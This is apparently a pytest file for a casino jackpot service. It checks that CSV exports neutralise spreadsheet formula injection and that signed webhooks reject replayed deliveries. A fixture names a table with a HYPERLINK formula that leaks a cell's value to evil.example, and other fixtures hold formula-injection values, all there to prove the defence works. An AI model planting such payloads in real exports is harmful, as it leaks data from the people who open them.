"""Exports and webhooks (issue 20, item 8), each attack played.

- CSV injection: a table named `=HYPERLINK(...)`, a user named `+...`, in the payout log (the
  synchronous export and a background one) and a pool's history CSV, reach the auditor's
  spreadsheet as text behind an apostrophe, never as a formula; amounts stay numbers, the digest
  still verifies, and exporting moved nothing.
- Webhooks: the signature covers the timestamp, the delivery id, the receiver's URL and the body,
  under that receiver's own secret: a delivery replayed to another receiver, or under another
  delivery id, fails verification, and one receiver's secret verifies none of another's.
- Production refuses an http:// receiver (but on the loopback), a secret shared by two
  receivers, a secret left as shipped, and the former single WEBHOOK_SECRET.
"""

from __future__ import annotations

import csv
import hashlib
import io
import subprocess
import sys
import time
import urllib.request
import uuid
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from django.utils import timezone

from jackpot.audit.outbox_journal import vouched
from jackpot.awards.workflow import award_verify
from jackpot.bodies.exports import ExportRequest
from jackpot.models import AuditEvent, Award, AwardKind, OutboxMessage, Transfer, WebhookDelivery
from jackpot.notifications import outbox, webhooks
from jackpot.pools.creation import pool_create
from jackpot.reporting.export_jobs import Built, export_job_build, export_job_create
from jackpot.reporting.exports import spreadsheet_safe
from tables.models import Game
from tables.services import operator_terminal_issue, table_create
from tests.conftest import Terminal, uth_play, uth_seat
from tests.jackpot.webhook_receiver import Receiver, verify
from tests.staff import person, token_client
from tests.test_production import ROOT, operator_env

TABLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click to verify")'
SUPERVISOR = "+cmd-supervisor"  # a user name Django's validator lets through
ISO = "%Y-%m-%dT%H:%M:%SZ"


# --- CSV ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # text: a number is an int, which is never touched
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("UTH 1", "UTH 1"),
        ("a=b", "a=b"),
        ("", ""),
        (-500, -500),
        (1_000_200, 1_000_200),
        (None, None),
    ],
)
def test_a_cell_is_neutralised_only_when_it_is_text_a_spreadsheet_would_evaluate(value, written):
    assert spreadsheet_safe(value) == written


def _staff(django_user_model, name: str, role: str):
    user = person(name, role)
    return user, token_client(user)


@pytest.fixture
def hostile_floor(db, django_user_model) -> int:
    """A pool whose one table is named as a formula, where a jackpot was won and verified by a
    supervisor whose name starts as one."""
    pool = pool_create(name="Pool hostile", actor="test")
    table = table_create(name=TABLE, game=Game.UTH, pool=pool, actor="test")
    token = operator_terminal_issue(table=table, name="t", revoke_others=False, actor="test").token
    terminal = Terminal(table.pk, token)
    assert terminal.post("/rounds", {"round_id": "r-1", "seats": [uth_seat(1)]}).status_code == 201
    settled = terminal.post(
        "/rounds/r-1/result",
        {
            "board": ["Ah", "Kh", "Qh", "2c", "3d"],
            "dealer": ["9s", "9d"],
            "seats": [uth_play(1, "Jh Th")],
        },
    )
    assert settled.status_code == 200
    supervisor, _ = _staff(django_user_model, SUPERVISOR, "supervisor")
    royal = Award.objects.get(kind=AwardKind.ROYAL_FLUSH)
    award_verify(award_id=royal.pk, user=supervisor, note="checked on video")
    return pool.pk


def _jackpot_cents() -> str:
    return str(Award.objects.get(kind=AwardKind.ROYAL_FLUSH).amount_cents)


def _unchanged() -> tuple[int, int]:
    return Transfer.objects.count(), AuditEvent.objects.count()


def _rows(text: str) -> list[dict[str, str]]:
    *lines, last = text.splitlines(keepends=True)
    assert last == f"# sha256 {hashlib.sha256(''.join(lines).encode()).hexdigest()}\n"
    return list(csv.DictReader(io.StringIO("".join(lines))))


def test_the_payout_log_never_hands_a_spreadsheet_a_formula(hostile_floor, django_user_model):
    _, auditor = _staff(django_user_model, "ida", "auditor")
    before = _unchanged()
    now, day = timezone.now(), timedelta(days=1)
    response = auditor.get(
        "/api/v1/awards/export.csv",
        {"from": (now - day).strftime(ISO), "to": (now + day).strftime(ISO)},
    )
    assert response.status_code == 200
    (row,) = _rows(b"".join(response.streaming_content).decode())
    assert row["table"] == "'" + TABLE
    assert row["verified_by"] == "'" + SUPERVISOR
    assert row["amount_cents"] == _jackpot_cents()  # a number, as it was
    assert row["status"] == "verified" and row["combination"] == "royal_flush"
    assert _unchanged() == before


def test_a_background_export_is_the_same_neutralised_file(
    hostile_floor, django_user_model, settings, tmp_path
):
    settings.EXPORT_DIR = tmp_path
    user, _ = _staff(django_user_model, "ida", "auditor")
    job = export_job_create(user=user, filters=ExportRequest.model_validate({}))
    before = _unchanged()
    assert export_job_build(job_id=job.pk) == Built.DONE
    (row,) = _rows((Path(tmp_path) / f"awards-export-{job.pk}.csv").read_text())
    assert (row["table"], row["verified_by"]) == ("'" + TABLE, "'" + SUPERVISOR)
    assert row["amount_cents"] == _jackpot_cents()
    assert _unchanged() == before


def test_a_pools_history_csv_never_hands_a_spreadsheet_a_formula(hostile_floor, django_user_model):
    _, auditor = _staff(django_user_model, "ida", "auditor")
    before = _unchanged()
    response = auditor.get(f"/api/v1/pools/{hostile_floor}/history.csv", {"chart": "hits"})
    assert response.status_code == 200
    (row,) = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["table"] == "'" + TABLE
    assert row["round"] == "r-1" and row["amount_cents"] == _jackpot_cents()
    assert _unchanged() == before


# --- webhooks -----------------------------------------------------------------------------------

SECRETS = {
    "/cage": "the-cage-s-own-webhook-secret-of-more-than-32-bytes",
    "/surveillance": "surveillance-s-own-webhook-secret-of-more-than-32-bytes",
}


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    server = Receiver(SECRETS)
    yield server
    server.close()


def _headers(url: str, delivery: uuid.UUID, body: bytes) -> dict[str, str]:
    return webhooks.signed_headers(
        url=url,
        delivery_id=delivery,
        event_id="award:7",
        attempt=1,
        body=body,
        timestamp=int(time.time()),
    )


def test_a_signature_verifies_only_for_its_receiver_its_delivery_and_its_body(settings):
    cage, surveillance = "https://cage.example/hooks", "https://surveillance.example/hooks"
    settings.WEBHOOK_RECEIVERS = {cage: SECRETS["/cage"], surveillance: SECRETS["/surveillance"]}
    body, delivery = b'{"id":"award:7"}', uuid.uuid4()
    headers = _headers(cage, delivery, body)
    now = time.time()
    assert verify(SECRETS["/cage"], cage, headers, body, now=now)

    # Replayed to surveillance: neither its secret nor its URL verifies it.
    assert not verify(SECRETS["/surveillance"], surveillance, headers, body, now=now)
    # Surveillance's secret cannot verify (nor so forge) the cage's delivery, at the cage's URL.
    assert not verify(SECRETS["/surveillance"], cage, headers, body, now=now)
    # The cage's own secret at another URL: the URL is signed.
    assert not verify(SECRETS["/cage"], surveillance, headers, body, now=now)
    # Under another delivery id, to pass the receiver's deduplication: refused.
    again = {**headers, "Jackpot-Delivery": str(uuid.uuid4())}
    assert not verify(SECRETS["/cage"], cage, again, body, now=now)
    # Another body, or the same request after the replay window: refused.
    assert not verify(SECRETS["/cage"], cage, headers, b'{"id":"award:8"}', now=now)
    assert not verify(SECRETS["/cage"], cage, headers, body, now=now + 301)
    # The secrets differ, so each receiver's signature of the same delivery differs too.
    assert (
        headers["Jackpot-Signature"] != _headers(surveillance, delivery, body)["Jackpot-Signature"]
    )


def _post(url: str, headers: dict[str, str], body: bytes) -> int:
    request = urllib.request.Request(url, data=body, headers=headers, method="POST")
    with urllib.request.urlopen(request, timeout=5) as response:
        return int(response.status)


@pytest.mark.django_db(transaction=True)
def test_a_delivery_replayed_to_another_receiver_or_as_another_delivery_is_refused(
    receiver, settings, hostile_floor
):
    settings.WEBHOOK_RECEIVERS = receiver.settings()
    # The jackpot's real message: its journal event vouches for it (jackpot.audit.outbox_journal).
    message_id = OutboxMessage.objects.get(topic=outbox.JACKPOT_HIT).pk
    assert outbox.relay(message_id, vouched) == outbox.Relayed.DONE
    (cage,), (surveillance,) = receiver.at("/cage"), receiver.at("/surveillance")
    assert cage.verified and surveillance.verified
    assert cage.delivery != surveillance.delivery
    deliveries = list(WebhookDelivery.objects.order_by("pk").values())

    # Someone who captured the cage's request plays it to surveillance, then to the cage again
    # under a new delivery id (a receiver dedups on it), then with surveillance's signature.
    replays = [
        ("/surveillance", cage.headers),
        ("/cage", {**cage.headers, "Jackpot-Delivery": str(uuid.uuid4())}),
        ("/cage", {**cage.headers, "Jackpot-Signature": surveillance.headers["Jackpot-Signature"]}),
    ]
    for path, headers in replays:
        _post(receiver.url(path), headers, cage.body)
    assert [request.verified for request in receiver.received[2:]] == [False, False, False]
    # The service's record of its deliveries is as it was: the replays were not its sends.
    assert list(WebhookDelivery.objects.order_by("pk").values()) == deliveries


# --- production's settings ----------------------------------------------------------------------

CAGE = "cage=https://cage.club.internal/hooks/jackpot"
SURVEILLANCE = "surveillance=https://surveillance.club.internal/hooks/jackpot"
ONE = "a-random-looking-secret-of-the-cage-Zq81lW0vK2t9xYpA"
TWO = "another-secret-for-surveillance-Hk3mQ7rT1uV5wX9yB2c"


def _receivers_read(**changes: str | None) -> subprocess.CompletedProcess[str]:
    code = (
        "import django; django.setup(); from django.conf import settings; "
        "print(sorted(settings.WEBHOOK_RECEIVERS))"
    )
    return subprocess.run(
        [sys.executable, "-c", code],
        cwd=ROOT,
        env=operator_env(**changes),
        capture_output=True,
        text=True,
        timeout=60,
    )


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        (
            {
                "WEBHOOK_RECEIVERS": "cage=http://cage.club.internal/hooks",
                "WEBHOOK_SECRET_CAGE": ONE,
            },
            "http://cage.club.internal/hooks is not https://",
        ),
        (
            {"WEBHOOK_RECEIVERS": "cage=http://10.0.0.8/hooks", "WEBHOOK_SECRET_CAGE": ONE},
            "http://10.0.0.8/hooks is not https://",
        ),
        (
            {"WEBHOOK_RECEIVERS": "cage=http://localhost:9000/h", "WEBHOOK_SECRET_CAGE": ONE},
            "http://localhost:9000/h is not https://",
        ),
        (
            {
                "WEBHOOK_RECEIVERS": f"{CAGE},{SURVEILLANCE}",
                "WEBHOOK_SECRET_CAGE": ONE,
                "WEBHOOK_SECRET_SURVEILLANCE": ONE,
            },
            "two receivers share a secret",
        ),
        (
            {
                "WEBHOOK_RECEIVERS": CAGE,
                "WEBHOOK_SECRET_CAGE": "change-me-to-48-random-characters-for-the-cage-only",
            },
            "is the example shipped with the service",
        ),
        (
            {
                "WEBHOOK_RECEIVERS": f"{CAGE},cage=https://other.club.internal/h",
                "WEBHOOK_SECRET_CAGE": ONE,
            },
            "is not name=url with a name of its own",
        ),
        (
            {"WEBHOOK_URLS": "https://cage.club.internal/hooks/jackpot", "WEBHOOK_SECRET": ONE},
            "WEBHOOK_URLS is replaced by WEBHOOK_RECEIVERS",
        ),
    ],
)
def test_production_refuses_a_receiver_in_clear_or_a_secret_not_its_own(changes, message):
    result = _receivers_read(**changes)
    assert result.returncode != 0
    assert message in result.stderr


def test_production_takes_one_secret_per_https_receiver_and_the_loopback_in_clear():
    result = _receivers_read(
        WEBHOOK_RECEIVERS=f"{CAGE},{SURVEILLANCE},drill=http://127.0.0.1:8099/hooks",
        WEBHOOK_SECRET_CAGE=ONE,
        WEBHOOK_SECRET_SURVEILLANCE=TWO,
        WEBHOOK_SECRET_DRILL="a-third-secret-for-the-loopback-drill-0123456789",
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == str(
        [
            "http://127.0.0.1:8099/hooks",
            "https://cage.club.internal/hooks/jackpot",
            "https://surveillance.club.internal/hooks/jackpot",
        ]
    )
